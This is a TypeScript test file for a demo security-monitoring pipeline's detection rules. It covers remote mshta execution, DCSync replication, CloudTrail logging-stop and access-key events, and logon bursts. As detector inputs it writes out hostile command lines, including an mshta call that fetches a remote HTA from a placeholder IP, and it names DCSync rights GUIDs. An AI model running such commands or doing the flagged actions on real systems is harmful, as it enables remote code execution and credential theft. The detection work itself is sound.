// The demo's rules: one event of each kind that they know, and its harmless twin.

import { readFileSync } from 'node:fs'
import { gunzipSync } from 'node:zlib'

import { describe, expect, it } from 'vitest'

import type { EventPayload } from '../../../examples/soc-pipeline/protocol.js'
import { Correlation } from '../../../examples/soc-pipeline/rules/correlation.js'
import { canBeFact, DECIDING_FIELDS, factOf } from '../../../examples/soc-pipeline/rules/fact.js'

/** The incidents that these events make, in order, as rule and severity. */
function incidentsOf(...events: readonly EventPayload['event'][]): string[] {
  const correlation = new Correlation()
  return events.flatMap((event, i) => {
    const fact = factOf({ sentAt: 0, origin: `test:${i + 1}`, form: 'json', event }, String(i), 0)
    return fact === undefined ? [] : correlation.add(fact).map(({ rule, severity }) => `${severity} ${rule}`)
  })
}

const SYSMON = { SourceName: 'Microsoft-Windows-Sysmon', EventID: 1 }
const AUDIT = { SourceName: 'Microsoft-Windows-Security-Auditing', EventID: 4662 }
const DCSYNC = '%%7688 {1131f6ad-9c07-11d1-f79f-00c04fc2dcd2} {19195a5b-6da0-11d0-afd3-00c04fd930c9}'

describe('mshta', () => {
  it.each([
    'mshta.exe http://198.51.100.7/a.hta',
    'mshta vbscript:Close(Execute("x"))',
    '"C:\\x\\mshta.exe" "javascript:a()"',
  ])('is found: %s', (CommandLine) => {
    expect(incidentsOf({ ...SYSMON, Image: 'C:\\Windows\\System32\\mshta.exe', CommandLine })).toContain(
      'high remote-hta',
    )
  })

  it('is left alone with a local file', () => {
    const CommandLine = 'mshta.exe C:\\help\\index.hta'
    expect(incidentsOf({ ...SYSMON, Image: 'C:\\Windows\\System32\\mshta.exe', CommandLine })).toEqual([])
  })
})

describe('DCSync', () => {
  it('is found when a user replicates passwords', () => {
    expect(incidentsOf({ ...AUDIT, SubjectUserName: 'mallory', Properties: DCSYNC })).toEqual([
      'critical dcsync',
    ])
  })

  it.each([
    ['a domain controller', { SubjectUserName: 'DC1$', Properties: DCSYNC }],
    ['other rights', { SubjectUserName: 'mallory', Properties: '{19195a5b-6da0-11d0-afd3-00c04fd930c9}' }],
  ])('is not: %s', (_what, fields) => {
    expect(incidentsOf({ ...AUDIT, ...fields })).toEqual([])
  })
})

describe('CloudTrail', () => {
  const call = (eventName: string, more: object = {}): EventPayload['event'] => ({
    eventSource: 'iam.amazonaws.com',
    eventName,
    eventTime: '2026-01-01T00:00:00Z',
    sourceIPAddress: '203.0.113.9',
    userIdentity: { type: 'IAMUser', userName: 'mallory' },
    ...more,
  })

  it.each([
    ['StopLogging', {}, 'high cloud-blinded'],
    ['CreateAccessKey', {}, 'medium cloud-persistence'],
    ['ListUsers', { userIdentity: { type: 'Root' } }, 'medium cloud-root'],
  ])('%s is found', (name, more, incident) => {
    expect(incidentsOf(call(name, more))).toEqual([incident])
  })

  it.each([
    ['a call that only reads', call('ListUsers')],
    ['a call that was refused', call('StopLogging', { errorCode: 'AccessDenied' })],
  ])('is left alone: %s', (_what, event) => {
    expect(incidentsOf(event)).toEqual([])
  })

  it('finds a burst of refusals, and a sign-in after failures', () => {
    const refused = call('GetSecretValue', { errorCode: 'AccessDenied' })
    expect(incidentsOf(refused, refused, refused, refused, refused)).toEqual(['medium cloud-denied-burst'])
    const signIn = (verdict: string): EventPayload['event'] =>
      call('ConsoleLogin', { responseElements: { ConsoleLogin: verdict } })
    expect(incidentsOf(...Array.from({ length: 5 }, () => signIn('Failure')), signIn('Success'))).toEqual([
      'medium failed-logon-burst',
      'critical logon-after-failures',
    ])
  })
})

describe('the deciding fields', () => {
  const sample = new URL('../../../examples/soc-pipeline/sample/events.ndjson.gz', import.meta.url)
  const events = gunzipSync(readFileSync(sample))
    .toString()
    .split('\n')
    .filter((line) => line !== '')
    .map((line) => JSON.parse(line) as Record<string, unknown>)
  const ofLinux = ['sshd', 'sudo', 'cron'].map((app) => ({
    app,
    message: 'Failed password for root from 192.0.2.7 port 22 ssh2',
  }))

  it('rule out events that are no facts, and no others', () => {
    let ruledOut = 0
    for (const event of [...events, ...ofLinux, { eventSource: 'iam.amazonaws.com' }, { eventSource: 5 }]) {
      const deciding = Object.fromEntries(
        DECIDING_FIELDS.map((name) => [name, event[name as keyof typeof event]]),
      )
      const isRuledOut = !canBeFact('json', deciding)
      if (isRuledOut) ++ruledOut
      const fact = factOf({ sentAt: 0, origin: '', form: 'json', event }, '', 0)
      expect(isRuledOut && fact !== undefined, JSON.stringify(event)).toBe(false)
    }
    // Most of the sample is noise, as real events are.
    expect(ruledOut).toBeGreaterThan(events.length / 2)
  })

  it('rule out nothing that was seen on this machine', () => {
    expect(canBeFact('process', {})).toBe(true)
    expect(canBeFact('listener', {})).toBe(true)
    expect(canBeFact('syslog', {})).toBe(true)
  })
})
